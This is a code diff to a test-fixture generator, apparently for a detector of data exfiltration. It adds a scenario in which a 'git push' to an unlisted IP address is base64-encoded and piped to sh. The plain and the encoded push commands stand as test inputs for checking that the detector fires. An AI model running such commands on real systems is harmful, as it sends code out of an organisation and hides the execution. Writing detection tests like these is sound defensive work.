@@ -97,19 +97,24 @@ function answeredTunnel(tools) {
   ]);
 }
 
-/** git to a host that is on no list; what it gets is as large as what it sent. */
+/** git to a host that is on no list, asked for openly and in disguise; what it gets is as large as what it sent. */
 function answeredPush(tools) {
-  const scenario = 'fires-on-a-push-answered-with-as-much';
-  const draw = tools.drawing(scenario);
-  const at = tools.DAY_0 + HOUR;
-  const command = 'git push -q https://203.0.113.142/x.git HEAD:main';
-  entered(tools, [CODE, scenario], { draw, name: 'shop', ip: '10.20.0.112', at, command });
-  tools.writeLines(CODE, scenario, 'conn.log', [
-    tools.conn(draw, {
-      ...{ at: at + 1, from: '10.20.0.112', to: '203.0.113.142' },
-      ...{ sent: 6 * MB, received: 6.1 * MB, seconds: 5 },
-    }),
-  ]);
+  const push = 'git push -q https://203.0.113.142/x.git HEAD:main';
+  const encoded = Buffer.from(push).toString('base64');
+  for (const [scenario, ip, command] of [
+    ['fires-on-a-push-answered-with-as-much', '10.20.0.112', push],
+    ['fires-on-a-push-whose-command-is-encoded', '10.20.0.114', `sh -c p=${encoded}; echo $p | base64 -d | sh`],
+  ]) {
+    const draw = tools.drawing(scenario);
+    const at = tools.DAY_0 + HOUR;
+    entered(tools, [CODE, scenario], { draw, name: 'shop', ip, at, command });
+    tools.writeLines(CODE, scenario, 'conn.log', [
+      tools.conn(draw, {
+        ...{ at: at + 1, from: ip, to: '203.0.113.142' },
+        ...{ sent: 6 * MB, received: 6.1 * MB, seconds: 5 },
+      }),
+    ]);
+  }
 }
 
 /** As `fires-on-upload-to-a-listed-code-host`, but for the answer. */
